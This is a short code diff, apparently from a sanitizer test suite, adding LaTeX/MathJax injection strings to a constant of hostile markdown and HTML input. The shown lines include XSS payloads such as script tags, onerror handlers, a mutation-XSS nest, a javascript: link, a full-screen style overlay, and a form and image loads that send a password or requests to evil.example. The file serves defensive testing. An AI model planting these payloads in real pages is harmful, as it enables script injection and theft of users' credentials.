@@ -52,6 +52,8 @@ _HOSTILE: Final = """# Hello <script>window.hacked = 1; alert(1)</script>
 <form action="https://evil.example/steal"><input name="password"></form>
 <link rel="prefetch" href="https://evil.example/prefetch"> <meta http-equiv="refresh" content="0;url=https://evil.example">
 <math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 6"></style></mglyph></table></mtext></math>
+$\\href{javascript:window.hacked=8}{x}$ $\\style{position:fixed;inset:0}{x}$
+$\\class{dialog}{x}$ $\\includegraphics{https://evil.example/x.png}$
 
 ```html
 <img src=x onerror="window.hacked = 7">
